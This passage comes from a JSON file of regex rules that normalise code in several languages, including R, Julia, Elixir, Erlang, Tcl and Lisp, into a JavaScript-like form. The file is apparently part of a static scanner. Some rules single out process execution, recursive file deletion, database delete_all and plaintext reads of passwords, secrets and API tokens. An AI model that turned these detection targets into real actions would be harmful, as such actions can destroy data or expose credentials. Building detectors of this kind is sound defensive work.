-s\\\\b|\\\\bdir\\\\.exists\\\\b","isDirectory"],["<<?-","="],["(?:\\\\|>|%>%)\\\\s*([\\\\w.]+)\\\\s*\\\\(",".$1("],["\\\\blist\\\\(\\\\s*\\\\w+\\\\s*=\\\\s*","list("],["([(,]\\\\s*)([\\\\w.]+)\\\\\
-s*=(?!=)","$1$2: "],["(?<![\\\\w.])([\\\\w.]{1,60}) {0,4}= {0,4}function\\\\s*\\\\(","function $1("],["(?:\\\\bfunction|\\\\\\\\)\\\\s*(\\\\([^()]*\\\\))\\\\s*(?!\\\\{)","$1 => "],["\\\\\
-bfor\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s+in\\\\s","for ($1 of "],["\\\\bfile\\\\.path\\\\b","join_path"],["\\\\bjoin_path\\\\(([^(),]*(?:\\\\([^()]*\\\\))?),\\\\s*(c\\\\([^()]*\\\\))\\\\)","$2.map((it\
-) => join_path($1, it))"],["\\\\bpaste0\\\\(([^(),]*),\\\\s*([^(),]*)\\\\)","($1 + $2)"],["\\\\bpaste\\\\(([^(),]*),\\\\s*([^(),]*)\\\\)","($1 + \\" \\" + $2)"]]},"julia":{"comme\
-nt":"#=[\\\\s\\\\S]*?=#|#[^\\\\n]*","texts":"\\"\\"\\"([\\\\s\\\\S]*?)\\"\\"\\"|(?:\\\\b(?:raw|sql))?\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|\`([^\`]*)\`|(?<![\\\\w)\\\\]])'((?:[^'\\\\\\\\]|\\\\\\\\.\
-)*)'","inserts":"\\\\$\\\\(?([\\\\w.]+(?:\\\\([^()]*\\\\))?)\\\\)?","rewrites":[["^[ \\\\t]*(?:using|import)\\\\b[^\\\\n;]*",""],["(\\\\w)!(?=\\\\()","$1"],["\\\\bforeach\\\\(","map("],[\
-"\\\\b(\\\\w+)\\\\.\\\\(([^(),]*(?:\\\\(\\\\))?),\\\\s*(\\\\[[^\\\\[\\\\]]*\\\\])\\\\)","$3.map((it) => $1($2, it))"],["\\\\.\\\\(","("],["\\\\b(?:Base|Base\\\\.Filesystem|FilePathsBase)\\\\.(?=\
-\\\\w)",""],["\\\\bmktempdir\\\\(\\\\s*\\\\)\\\\s+do\\\\s+(\\\\w+)","$1 = mktempdir();"],[";\\\\s*(?=(?:recursive|force|join|dir|onerror)\\\\s*=)",", "],["([(,]\\\\s*)(\\\\w+)\\\\s*=(?!=\
-)","$1$2: "],["\\\\|>\\\\s*([\\\\w.]+)",".$1()"],["\\\\bstring\\\\(([^(),]*),\\\\s*([^(),]*),\\\\s*([^(),]*)\\\\)","($1 + $2 + $3)"],["\\\\bstring\\\\(([^(),]*),\\\\s*([^(),]*)\\\\)","\
-($1 + $2)"],["(\\"\\\\d+\\")\\\\s*\\\\*\\\\s*(?=[\\\\w\\"])","$1 + "],["([\\\\w)])\\\\s\\\\*\\\\s(?=\\")","$1 + "],["(?:\\\\((\\\\w+(?:\\\\s*,\\\\s*\\\\w+)*)\\\\)|\\\\b(\\\\w+))\\\\s*->\\\\s*","($1$2) =\
-> "],["\\\\bfor\\\\s+\\\\(?(\\\\w+)(?:\\\\s*,\\\\s*\\\\w+)*\\\\)?\\\\s+(?:in|=|\\u2208)\\\\s+([^\\\\n;,()]*(?:\\\\([^()]*(?:\\\\([^()]*\\\\))?[^()]*\\\\))?[^\\\\n;,()]*),\\\\s*(\\\\w+)\\\\s+(?:in|\\u2\
-208)\\\\s+\\\\w+","for ($1 of $2) $3 = $1;"],["\\\\bfor\\\\s+(?:\\\\(\\\\w+\\\\s*,[^()]*,\\\\s*(\\\\w+)\\\\)|(\\\\w+))\\\\s+(?:in|=|\\u2208)\\\\s+([^\\\\n;,()]*(?:\\\\([^()]*(?:\\\\([^()]*\\\\))?\
-[^()]*\\\\))?[^\\\\n;,()]*)","for ($1$2 of $3);"],["^([ \\\\t]*)([\\\\w.]+)(\\\\([^()=]*\\\\))\\\\s*=(?!=)\\\\s*([^\\\\n]*)","$1function $2$3 { $4 }"],["\\\\bfunction\\\\s+(\\\\w+\\\\s*\\\
-\\([^()]*\\\\))","function $1 {"],["^end\\\\b","}"]]},"elixir":{"comment":"#[^\\\\n{][^\\\\n]*|\\"(?:doc|cover)\\"","texts":"(?:~[sS])?\\"\\"\\"([\\\\s\\\\S]*?)\\"\\"\\"|~[sS]?\\"((?\
-:[^\\"\\\\\\\\]|\\\\\\\\.)*)\\"|\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|'((?:[^'\\\\\\\\]|\\\\\\\\.)*)'|~[sS]\\\\(([^()]*)\\\\)|(?<=~w)[(\\\\[{|/\\"]([^)\\\\]}|/\\"]*)[)\\\\]}|/\\"]a?","inserts":"#\
-\\\\{([^{}]*)\\\\}","rewrites":[["\\\\{:ok, ?(\\\\w+)\\\\} ?=(?!=)","$1 ="],["~w(\\"\\\\d+\\")","words($1)"],["\\\\bdelete_all\\\\b(?:(?<=\\\\bwhere\\\\b[^\\\\n;]{0,999})|(?=[^\\\\n;]{0,\
-999}\\\\bwhere\\\\b))","delete_some"],["^[ \\\\t]*(?:alias|import|use|require)\\\\b[^\\\\n;]*",""],["(\\\\w)[!?](?=[\\\\s(/)])","$1"],["<>","+"],["&([\\\\w.:]+)/1","(it) => $1(\
-it)"],["&([\\\\w.:]+)/\\\\d","$1"],["&\\\\(([^()&]*(?:\\\\([^()]*\\\\))?)&1([^()]*)\\\\)","(it) => ($1it$2)"],["&([\\\\w.:]+\\\\([^()&]*)&1([^()]*\\\\))","(it) => $1it$2"],["\\\\bf\
-n\\\\s+\\\\(?([\\\\w, ]*)\\\\)?\\\\s*->\\\\s*([^\\\\n]{0,300}?)\\\\bend\\\\b","($1) => { $2 }"],["\\\\bfn\\\\s+\\\\(?([\\\\w, ]*)\\\\)?\\\\s*->","($1) =>"],["\\\\bEnum\\\\.each\\\\(([^()]*(?:\\\\([^\
-()]*\\\\))?),\\\\s*","$1.forEach("],["\\\\|>\\\\s*:?(?:Enum|Stream)\\\\.each\\\\b",".forEach"],["\\\\|>\\\\s*:?(?:\\\\w+\\\\.)*(\\\\w+)\\\\(",".$1("],["\\\\|>\\\\s*:?(?:\\\\w+\\\\.)*(\\\\w+)",".\
-$1()"],["(?<!\\\\w):(?=[a-z]\\\\w*\\\\.\\\\w)",""],["\\\\bfor\\\\s+(\\\\w+)\\\\s*<-\\\\s*(.*?)\\\\s*(?:,\\\\s*do:|\\\\bdo$)","for ($1 of $2);"],["\\\\bdefp?\\\\s+(\\\\w+)\\\\s*,\\\\s*do:\\\\s*([^\\\
-\\n]*)","function $1() { $2 }"],["\\\\bdefp?\\\\s+(\\\\w+)\\\\s*(\\\\([^()]*\\\\))\\\\s*,\\\\s*do:\\\\s*([^\\\\n]*)","function $1$2 { $3 }"],["\\\\bdefp?\\\\s+(\\\\w+)\\\\s+do\\\\b","function\
- $1() {"],["\\\\bdefp?\\\\s+(\\\\w+)\\\\s*(\\\\([^()]*\\\\))\\\\s*do\\\\b","function $1$2 {"],["^ {0,2}end\\\\b","}"],["\\\\{(\\\\w+),\\\\s*\\\\w+\\\\}\\\\s*=","$1 ="]]},"erlang":{"comment":\
-"%[^\\\\n]*|^#![^\\\\n]*","texts":"\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|'((?:[^'\\\\\\\\]|\\\\\\\\.)*)'","rewrites":[["\\\\b([a-z]\\\\w*):([a-z]\\\\w*)\\\\(","$1.$2("],["\\\\brpc\\\\.call\
-\\\\([^,]*,\\\\s*(\\\\w+)\\\\s*,\\\\s*(\\\\w+)\\\\s*,\\\\s*\\\\[","$1.$2(["],["\\\\bhttpc\\\\.request\\\\(\\\\s*(\\\\w+)\\\\s*,\\\\s*\\\\{","httpc_$1("],["\\\\[((?:[^\\\\[\\\\]|]|\\\\[[^\\\\[\\\\]]*\\\\])*)\\\\\
-|\\\\|\\\\s*(\\\\w+)\\\\s*<-\\\\s*(\\\\[[^\\\\[\\\\]]*\\\\]|[^\\\\[\\\\],]+)\\\\]","; for ($2 of $3); $1;"],["\\\\bfun\\\\s*\\\\(([^()]*)\\\\)\\\\s*->\\\\s*((?:[^,()\\\\n]|\\\\([^()\\\\n]*(?:\\\\([^()\\\\n]\
-*\\\\)[^()\\\\n]*){0,4}\\\\)){1,300}?)\\\\bend\\\\b","($1) => $2"],["\\\\+\\\\+","+"],["(?:\\\\{\\\\w{1,40},[ \\\\t]*){1,4}\\\\{?(?:_\\\\w{0,40},[ \\\\t]*){0,4}(\\\\w+)\\\\}{1,4}\\\\s*=","$1 =\
-"]]},"named":{"comment":"//[^\\\\n]*|/\\\\*[\\\\s\\\\S]*?\\\\*/|^[ \\\\t]*#(?!define\\\\b)[^\\\\n]*|^[ \\\\t]*@\\\\w+(?:\\\\([^()\\\\n]*\\\\))?","texts":"\\"\\"\\"([\\\\s\\\\S]*?)\\"\\"\\"|(?:\\\\b[\
-fsru]{1,2})?#*\\"((?:[^\\"\\\\\\\\\\\\n]|\\\\\\\\\\\\([^()\\\\n]*(?:\\\\([^()\\\\n]*\\\\))?\\\\)|\\\\\\\\[\\\\s\\\\S])*)\\"#*|(?<![&<\\\\w] ?)'((?:[^'\\\\\\\\\\\\n]|\\\\\\\\.)*)'|\`([^\`]*)\`","inserts":"(?:\\\
-\\$\\\\{?|\\\\\\\\\\\\(|\\\\{(?=\\\\w+\\\\}))([A-Za-z_][\\\\w.]*(?:\\\\([^()]*\\\\))?)[})]?","rewrites":[["(\\"\\\\d+\\"|\\\\b(?:Seq|Process|List)\\\\([^()]*\\\\))\\\\s*\\\\.?\\\\s*!{1,2}(?![=\\\\w(\\\
-\\[])","$1.execute()"],["^[ \\\\t]*(?:import|use|using|package|library|part)\\\\s*\\\\([^()]*\\\\)",""],["(?<=^|;)[ \\\\t]*(?:pub\\\\s+)?(?:import|use|using|package|library|\
-part)\\\\s+[^\\\\n;(]*(?:;|$)",""],["^[ \\\\t]*#define\\\\s+(\\\\w+)[ \\\\t]+","$1 = "],["::<[^<>()]*>",""],["::","."],["\\\\?(?=\\\\s*[;.,){\\\\n])|!!(?=[.,)])|\\\\?(?=\\\\.\\\\w)|(?<\
-=[\\\\w)\\\\]])!(?=[\\\\s.,;)\\\\]])",""],["->d_name\\\\b",""],["\\\\breaddir\\\\((\\\\w+)\\\\)","any_of(readdir($1))"],["\\\\.(?:file|directory)(?=\\\\s*[)&|])",".isFile"],["\\\\b(\\\\w\
-+)!\\\\s*(?=[(\\\\[])","$1"],["\\\\bvec\\\\[","["],["\\\\b(?:System|env|Deno)\\\\.(?:getProperty|getenv|var|var_os)\\\\(\\"\\\\d+\\"\\\\)\\\\.(?:unwrap|expect|unwrap_or_default)\\\\([^\
-()]*\\\\)","$&"],["\\\\.(?:for_each|try_for_each|foreach|forEachOrdered|each|forEachIndexed)\\\\b",".forEach"],["\\\\b(?:let|var|val)\\\\s+(?:mut\\\\s+)?(?=\\\\w+\\\\s*(?::[^=\\\
-\\n]*)?=(?!=))",""],["\\\\.(?:path|name|Name|getName|file_name|filename)\\\\(\\\\)",""],["\\\\.(?:(?:password|secret|apiToken)\\\\.)?plainText\\\\b",".getPlainText()"],["\\\\.\
-(?:where|findAll|filterNot|filterNotNull|takeWhile|withFilter)\\\\b",".filter"],["\\\\.(?:collect|mapNotNull|flatMap|filter_map|compactMap)(?=\\\\s*(?:\\\\(?\\\\s*\\\\{|\\\\(\
-\\\\s*[|(\\\\w]))",".map"],["(?<![\\\\w.])(?:\\\\w{1,40}\\\\.){0,6}(?:Uri|URI|URL|Url)\\\\.(?:unsafeParse|parse|apply|create|new)\\\\(","URI("],["\\\\.(?:absolutePath|canonical\
-Path|fullPath|path|absolute)\\\\b(?!\\\\s*\\\\()",""],["\\\\bRuntime\\\\.(?:getRuntime\\\\(\\\\)|runtime)","Runtime"],["(?:Jenkins|hudson\\\\.model\\\\.Hudson)\\\\.(?:instance|get\\\
-\\(\\\\)|getInstance\\\\(\\\\)|instanceOrNull)\\\\.(?:getA|a)?(?:llItems|items|getItems)\\\\b(?:\\\\([^()]*\\\\))?","jenkinsItems()"],["(?<=^[ \\\\t]{0,40}|[;{}] {0,4})(\\\\w+)\\\\.\
-(args?|addAll|add|push|append)\\\\(","$1 = $1.$2("],["\\\\.([A-Z]\\\\w+)\\\\((?:\\"\\\\d+\\"|\\\\w*)\\\\)\\\\.(Delete|DeleteCollection)\\\\(",".$1.Delete("],["\\\\.(map|forEach|filte\
-r)\\\\((\\\\w[\\\\w.]*)\\\\(_\\\\)\\\\)",".$1((it) => $2(it))"],["\\\\bfor\\\\s+_\\\\s*,\\\\s*(\\\\w+)\\\\s*:?=\\\\s*range\\\\s+","for $1 of "],["\\\\bfor\\\\s+(\\\\w+)\\\\s*,\\\\s*(\\\\w+)\\\\s*:?=\\\\s*\
-range\\\\s+([^{\\\\n]*(?:\\\\{[^{}]*\\\\}+)?)\\\\s*\\\\{","for $1 of $3 { $2 = $1;"],["\\\\bfor\\\\s+(\\\\w+)\\\\s*:?=\\\\s*range\\\\s+","for $1 of "],["\\\\[(?:\\\\d+|\\\\.\\\\.\\\\.)?\\\\](?:\\\\*\
-?[\\\\w.]+|\\\\[\\\\][\\\\w.]+)\\\\{([^{}]*)\\\\}","[$1]"],["\\\\bfor\\\\s*[({]?\\\\s*(\\\\w+)\\\\s*<-\\\\s*","for $1 of "],["\\\\b(?:fun|func|fn|def)\\\\s+(?:<[^<>]*>\\\\s*)?(?:\\\\([^()]*\\\\)\
-\\\\s*)?(?:[\\\\w<>]+\\\\.)*(\\\\w+)(?:<[^<>()]*>|\\\\[[^\\\\[\\\\]()]*\\\\])?\\\\s*\\\\(","function $1("],["\\\\bfunc\\\\s*\\\\(","function("],["&?\\\\b\\\\w+\\\\.[A-Z]\\\\w*\\\\{(?=\\\\s*[A-Z]\\\\w*\
-\\\\s*:)","{"],["(function \\\\w+\\\\([^()]*(?:\\\\([^()]*\\\\))?[^()]*\\\\))[^={\\\\n]*=\\\\s*\\\\{","$1 {"],["(function \\\\w+\\\\([^()]*(?:\\\\([^()]*\\\\))?[^()]*\\\\))[^={\\\\n]*=\\\\s*(?\
-=[^\\\\s{>=])([^\\\\n]*)","$1 { return $2 }"],["\\\\b(?:val|mut|lazy|defer|go|await|unsafe|private|public|internal|override|static|inline|suspend|open|try)\\\\b[?!]?\\\\s\
-+(?=[\\\\w\\"\\\\[(&*])",""],["^([ \\\\t]*(?:if\\\\s+|var\\\\s+)?)(\\\\w+)[ \\\\t]*,[ \\\\t]*\\\\w+[ \\\\t]*(:?=)(?!=)","$1$2 $3"],["([(,=]\\\\s*(?:move\\\\s+)?)\\\\|([^|\\\\n]*)\\\\|\\\\s*(?:-\
->\\\\s*[^{\\\\n]*)?","$1($2) => "],["\\\\{\\\\s*\\\\(?(\\\\w+(?:\\\\s*,\\\\s*\\\\w+)*)\\\\)?\\\\s*(?:->|=>|\\\\bin\\\\b)(?=\\\\s)","{|$1|"],["(\\\\.\\\\w+)\\\\s*\\\\{\\\\s*\\\\|","$1() {|"],["(?<!^[ \\\
-\\t]*(?:\\\\}[ \\\\t]*)?(?:for|if|else|while|switch|match|guard|catch|function|class|extension|struct|impl|interface|enum|object)\\\\b[^\\\\n]{0,300})(\\\\.\\\\w+)\\\\s+\\\\{(?!\
-\\\\s*\\\\|)","$1() {|it|"],["(?<!^[ \\\\t]*(?:\\\\}[ \\\\t]*)?(?:for|if|else|while|switch|match|guard|catch|function|class|extension|struct|impl|interface|enum|object)\\\\\
-b[^\\\\n]{0,300})(\\\\.\\\\w+\\\\([^()\\\\n]*\\\\))\\\\s*\\\\{(?!\\\\s*\\\\|)(?=[^{}]*(?:\\\\bit|\\\\$0)\\\\b)","$1 {|it|"],["\\\\.filter\\\\(\\\\)\\\\s*\\\\{\\\\|(\\\\w+)\\\\|([^{}]*)\\\\}",".filter(($1)\
- => $2)"],["[\\\\s\\\\S](?![\\\\s\\\\S])","$&\\nmain()"],["\\\\$0","it"],["\\\\(([^()\\\\n]*?)(?<![\\\\w.])_(?=\\\\s*[./)]|\\\\s*\\\\.\\\\w)","((it) => $1it"],["(\\"\\\\d+\\"|\\\\w|\\\\))\\\\s+\\\\\
-.\\\\/\\\\s+","$1 / "]]},"typed":{"comment":"//[^\\\\n]*|/\\\\*[\\\\s\\\\S]*?\\\\*/|^[ \\\\t]*#(?!define\\\\b)[^\\\\n]*|^[ \\\\t]*@\\\\w+(?:\\\\([^()\\\\n]*\\\\))?","texts":"\\"\\"\\"([\\\\s\\\\S]*\
-?)\\"\\"\\"|(?:\\\\b[rLu]{1,2})?\\"((?:[^\\"\\\\\\\\\\\\n]|\\\\\\\\[\\\\s\\\\S])*)\\"|'((?:[^'\\\\\\\\\\\\n]|\\\\\\\\.)*)'","inserts":"\\\\$\\\\{?([A-Za-z_][\\\\w.]*(?:\\\\([^()]*\\\\))?)\\\\}?","rewrites\
-":[["^(?:script )?eval ",""],["^[ \\\\t]*(?:import|use|using|package|library|part)\\\\s*\\\\([^()]*\\\\)",""],["(?<=^|;)[ \\\\t]*(?:pub\\\\s+)?(?:import|use|using|package|l\
-ibrary|part)\\\\s+[^\\\\n;(]*(?:;|$)",""],["^[ \\\\t]*#define\\\\s+(\\\\w+)[ \\\\t]+","$1 = "],["::<[^<>()]*>",""],["::","."],["\\\\?(?=\\\\s*[;.,){\\\\n])|!!(?=[.,)])|\\\\?(?=\\\\.\\\
-\\w)|(?<=[\\\\w)\\\\]])!(?=[\\\\s.,;)\\\\]])",""],["->d_name\\\\b",""],["\\\\breaddir\\\\((\\\\w+)\\\\)","any_of(readdir($1))"],["\\\\.(?:file|directory)(?=\\\\s*[)&|])",".isFile"],["\
-\\\\b(\\\\w+)!\\\\s*(?=[(\\\\[])","$1"],["\\\\bvec\\\\[","["],["\\\\b(?:System|env|Deno)\\\\.(?:getProperty|getenv|var|var_os)\\\\(\\"\\\\d+\\"\\\\)\\\\.(?:unwrap|expect|unwrap_or_defaul\
-t)\\\\([^()]*\\\\)","$&"],["\\\\.(?:for_each|try_for_each|foreach|forEachOrdered|each|forEachIndexed)\\\\b",".forEach"],["\\\\b(?:let|var|val)\\\\s+(?:mut\\\\s+)?(?=\\\\w+\\\\s*(\
-?::[^=\\\\n]*)?=(?!=))",""],["\\\\.(?:path|name|Name|getName|file_name|filename)\\\\(\\\\)",""],["\\\\.(?:(?:password|secret|apiToken)\\\\.)?plainText\\\\b",".getPlainText()"\
-],["\\\\.(?:where|findAll|filterNot|filterNotNull|takeWhile|withFilter)\\\\b",".filter"],["\\\\.(?:collect|mapNotNull|flatMap|filter_map|compactMap)(?=\\\\s*(?:\\\\(?\\\\s*\
-\\\\{|\\\\(\\\\s*[|(\\\\w]))",".map"],["(?<![\\\\w.])(?:\\\\w{1,40}\\\\.){0,6}(?:Uri|URI|URL|Url)\\\\.(?:unsafeParse|parse|apply|create|new)\\\\(","URI("],["\\\\.(?:absolutePath|ca\
-nonicalPath|fullPath|path|absolute)\\\\b(?!\\\\s*\\\\()",""],["\\\\bRuntime\\\\.(?:getRuntime\\\\(\\\\)|runtime)","Runtime"],["(?:Jenkins|hudson\\\\.model\\\\.Hudson)\\\\.(?:instan\
-ce|get\\\\(\\\\)|getInstance\\\\(\\\\)|instanceOrNull)\\\\.(?:getA|a)?(?:llItems|items|getItems)\\\\b(?:\\\\([^()]*\\\\))?","jenkinsItems()"],["(?<=^[ \\\\t]{0,40}|[;{}] {0,4})(\\\
-\\w+)\\\\.(args?|addAll|add|push|append)\\\\(","$1 = $1.$2("],["\\\\.([A-Z]\\\\w+)\\\\((?:\\"\\\\d+\\"|\\\\w*)\\\\)\\\\.(Delete|DeleteCollection)\\\\(",".$1.Delete("],["\\\\bnew\\\\s+[\\\\w\
-.]+\\\\[\\\\w*\\\\]\\\\s*\\\\{([^{}]*)\\\\}","[$1]"],["\\\\bnew\\\\s+(?=[A-Z])",""],["\\\\bprintln?[ \\\\t]+(?=[\\\\w\\"])",""],["\\\\.(?:eachFileRecurse|eachDirRecurse|traverse)\\\\b(?:\\\
-\\(\\\\w*\\\\))?(?=\\\\s*\\\\{)",".walk().forEach"],["\\\\.(?:eachFile|eachDir)\\\\b(?:\\\\(\\\\))?(?=\\\\s*\\\\{)",".listFiles().forEach"],["\\\\bfor\\\\s*\\\\(\\\\s*(?:[\\\\w.\\\\[\\\\]<>]+[\\\\s\
-&*]+)*(\\\\w+)\\\\s*:(?!:)\\\\s*","for ($1 of "],["(\\\\w|\\\\))\\\\.text\\\\s*=(?!=)\\\\s*([^\\\\n;}]+)","$1.writeText($2)"],["(File\\\\([^()]*\\\\))\\\\s*<<\\\\s*(\\"\\\\d+\\")","$1.append\
-Text($2)"],["\\\\b(?:final|static|public|private|protected|const|constexpr|auto|late|synchronized|extern|inline|volatile|unsigned|try)\\\\b\\\\s*(?=[\\\\w\\"\\\\[(&*])",""\
-],["\\\\bstruct\\\\s+(?=\\\\w+\\\\s*[*\\\\w])",""],["<(?:[\\\\w.?, \\\\[\\\\]]|<[\\\\w.?, ]*>)*>(?=\\\\s*[\\\\w(\\\\[])",""],["\\\\bdef\\\\s+(\\\\w+)\\\\s*\\\\(","function $1("],["(^[ \\\\t]*|[;}{\
-][ \\\\t]*)(?!(?:else|return|new|throw|function|case|await|yield|in|of|do)\\\\b)[A-Za-z_][\\\\w.]*(?:\\\\[\\\\])*[\\\\s*&?]+(?!(?:if|for|while|switch|catch)\\\\b)(\\\\w+)\\\\s*\\\\\
-(([^()]*)\\\\)\\\\s*(?:throws\\\\s+[\\\\w., ]+|async\\\\s*)?\\\\{","$1function $2($3) {"],["(?<![\\\\w.])(?!(?:else|return|new|throw|function|case|await|yield|in|of|assert|pr\
-intln|print|not|let|var)\\\\b)[A-Za-z_][\\\\w.]*(?:\\\\[\\\\])*(?:\\\\s*[*&?]+\\\\s*|\\\\s+)(?!(?:in|of|instanceof|is|as)\\\\b)(\\\\w+)(?:\\\\[\\\\w*\\\\])*(?=\\\\s*(?:[,);]|=(?!=)))","$\
-1"],["(=\\\\s*|[(,]\\\\s*)\\\\{([^{};:]*)\\\\}","$1[$2]"],["\\\\bfor\\\\s*\\\\(\\\\s*[\\\\w.]+\\\\s+(\\\\w+)\\\\s+in\\\\s+","for ($1 of "],["\\\\b(?:snprintf|sprintf_s)\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s\
-*,[^,]*,","$1 = sprintf("],["\\\\bsprintf\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s*,(?=\\\\s*\\")","$1 = sprintf("],["\\\\bstrn?cpy\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s*,","$1 = std.string("],["\\\\bstrn?cat\
-\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s*,","$1 += std.string("],["\\\\s->\\\\s*(?=\\\\w|\\\\{|\\\\()"," => "],["\\\\{\\\\s*\\\\(?(\\\\w+(?:\\\\s*,\\\\s*\\\\w+)*)\\\\)?\\\\s*(?:->|=>|\\\\bin\\\\b)(?=\\\\s)","{|$1|"\
-],["(\\\\.\\\\w+)\\\\s*\\\\{\\\\s*\\\\|","$1() {|"],["(?<!^[ \\\\t]*(?:\\\\}[ \\\\t]*)?(?:for|if|else|while|switch|match|guard|catch|function|class|extension|struct|impl|interfac\
-e|enum|object)\\\\b[^\\\\n]{0,300})(\\\\.\\\\w+)\\\\s+\\\\{(?!\\\\s*\\\\|)","$1() {|it|"],["(?<!^[ \\\\t]*(?:\\\\}[ \\\\t]*)?(?:for|if|else|while|switch|match|guard|catch|function|cl\
-ass|extension|struct|impl|interface|enum|object)\\\\b[^\\\\n]{0,300})(\\\\.\\\\w+\\\\([^()\\\\n]*\\\\))\\\\s*\\\\{(?!\\\\s*\\\\|)(?=[^{}]*(?:\\\\bit|\\\\$0)\\\\b)","$1 {|it|"],["\\\\.filter\\\
-\\(\\\\)\\\\s*\\\\{\\\\|(\\\\w+)\\\\|([^{}]*)\\\\}",".filter(($1) => $2)"],["[\\\\s\\\\S](?![\\\\s\\\\S])","$&\\nmain()"],["\\\\$0","it"]]},"tcl":{"comment":"(?:^|;)[ \\\\t]*#[^\\\\n]*","tex\
-ts":"\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|\\\\[list\\\\s+([^\\\\[\\\\]$\\"{}]*)\\\\]|(?<=\\\\b(?:set|foreach) {1,4}\\\\w{1,40} {1,4})\\\\{([^{}$\\\\[\\\\];]*)\\\\}|(?<=\\\\bset {1,4}\\\\w{1,\
-40} {1,4})([\\\\w.~/-]+)|(?<=\\\\b(?:exec|spawn) {1,4}(?:--?\\\\w{1,20} {1,4}){0,3})([^\\\\s\\\\[-][^\\\\n;\\\\]}]*)|(?<=(?:\\\\bfile {1,4}(?:delete|join|normalize|mkdir)|\\\\bgl\
-ob|\\\\bopen)\\\\b[^\\\\n;\\\\]}\\\\[]{0,300} )(?!-)([$*~/.\\\\w][\\\\w./~*$-]*)","inserts":"\\\\$\\\\{?(?:::)?([A-Za-z_]\\\\w*)\\\\}?","rewrites":[["\\\\$\\\\{?(?:::)?(\\\\w+)\\\\}?","$1"],\
-["\\\\b(?:exec|spawn)\\\\s+(?:--?\\\\w+\\\\s+)*(\\\\((?:[^()]|\\\\([^()]*\\\\))*\\\\)|\\"\\\\d+\\")","system($1)"],["\\\\[\\\\s*file\\\\s+(?:join|normalize)\\\\s+(\\\\S+)\\\\s+(\\\\S+?)\\\\s*\\\\]",\
-"join_path($1, $2)"],["\\\\[\\\\s*glob\\\\s+(?:-nocomplain\\\\s+|-types?\\\\s+\\\\S+\\\\s+|--\\\\s+)*-dir(?:ectory)?\\\\s+(\\\\S+)\\\\s+(?:-\\\\w+\\\\s+)*(\\\\S+?)\\\\s*\\\\]","glob(join_path(\
-$1, $2))"],["\\\\[\\\\s*glob\\\\s+(?:-\\\\w+\\\\s+)*(\\\\S+?)\\\\s*\\\\]","glob($1)"],["\\\\bfile\\\\s+tempfile\\\\s+(\\\\w+)(?:\\\\s+\\\\w+)?","$1 = mktemp()"],["\\\\bfile\\\\s+delete\\\\s+(?:-\
-force\\\\s+|--\\\\s+)*\\\\{\\\\*\\\\}([^\\\\n;\\\\]}]+)",";rm_rf(words($1))"],["\\\\bfile\\\\s+delete\\\\s+(?:-force\\\\s+|--\\\\s+)*([^\\\\n;\\\\]}]+)",";rm_rf($1)"],["(\\\\brm_rf\\\\((?:\\"\\\\\
-d+\\"|\\\\w+|\\\\((?:[^()]|\\\\([^()]*\\\\))*\\\\)))\\\\s+(?=[\\"\\\\w(])","$1); rm_rf("],["(\\\\brm_rf\\\\((?:\\"\\\\d+\\"|\\\\w+|\\\\((?:[^()]|\\\\([^()]*\\\\))*\\\\)))\\\\s+(?=[\\"\\\\w(])","$1); \
-rm_rf("],["\\\\[\\\\s*open\\\\s+(\\\\S+?)\\\\s+(\\\\w+|\\"\\\\d+\\")\\\\s*\\\\]","open($1, \\"$2\\")"],["\\\\bforeach\\\\s+(\\\\w+)\\\\s+(\\"\\\\d+\\"|\\\\w+|\\\\w+\\\\((?:[^()]|\\\\([^()]*\\\\))*\\\\))\\\\s*\
-\\\\{","for ($1 of words($2)) {"],["\\\\bproc\\\\s+(\\\\w+)\\\\s+\\\\{(\\\\w*)\\\\}\\\\s*\\\\{","function $1($2) {"],["\\\\bset\\\\s+(\\\\w+)\\\\s+\\\\[?([^\\\\n;\\\\]}]+)","$1 = $2"],["(?<=^[ \\\
-\\t]{0,40}|[;{}] {0,4})(\\\\w+)\\\\s+(\\"\\\\d+\\"|\\\\w+)\\\\s*(?=$|[;}])","$1($2)"],["[\\\\[\\\\]]"," "]]},"lisp":{"comment":";[^\\\\n]*","texts":"(?:#p)?\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\\
-s\\\\S])*)\\"|\\\\?\\\\\\\\?.","rewrites":[["(?<=[\\\\w\\"])[-\\\\/](?=\\\\w)","_"],["\\\\b[a-z_]\\\\w*:{1,2}(?=\\\\w)",""],["\\\\(\\\\s*(?:dolist|loop\\\\s+for|for\\\\s+\\\\(?\\\\[?)\\\\s+\\\\(*\\\\s\
-*(\\\\w+)\\\\s+(?:in\\\\s+)?","; for $1 of "],["\\\\(\\\\s*(?:let\\\\*?|if_let\\\\*?|when_let\\\\*?)\\\\s+\\\\(\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s+","; $1 = ("],["(?<=\\\\)\\\\s{0,9})\\\\(\\\\s{0,9}(\\\\w+\
-)\\\\s+(?=\\\\([^()]*\\\\)\\\\s*\\\\)\\\\s*\\\\)?\\\\s*\\\\()","; $1 = ("],["\\\\(\\\\s*(?:setq|defvar|defconst|defparameter|define|setf)\\\\s+(\\\\w+)\\\\s+","; $1 = ("],["\\\\(\\\\s*(?:defun\
-|define)\\\\s+\\\\(?(\\\\w+)\\\\s+\\\\(?([^()]*)\\\\)","; function $1($2) { "],["\\\\(\\\\s*lambda\\\\s+\\\\(([^()]*)\\\\)\\\\s*","(($1) => "],["\\\\(\\\\s*(?:progn|begin|when|unless|if|an\
-d|or|condition_case|ignore_errors|save_excursion|display)\\\\s","; ("],["['#]{1,2}(?=[(\\\\w])",""],["\\\\(\\\\s*(?:expand_file_name|merge_pathnames)\\\\s+(\\\\w+|\\"\\\\d+\\")\
-\\\\s+(\\\\w+|\\"\\\\d+|\\\\([^()]*\\\\)|\\"\\\\d+\\")\\\\s*\\\\)","join_path($2, $1)"],["\\\\(\\\\s*(\\\\w[\\\\w/:]*)(?=[\\\\s)])\\\\s*","$1("],["((?:\\"\\\\d+\\"|\\\\)|(?<![=>]\\\\s{0,4})\\\\b(?!of\\\\\
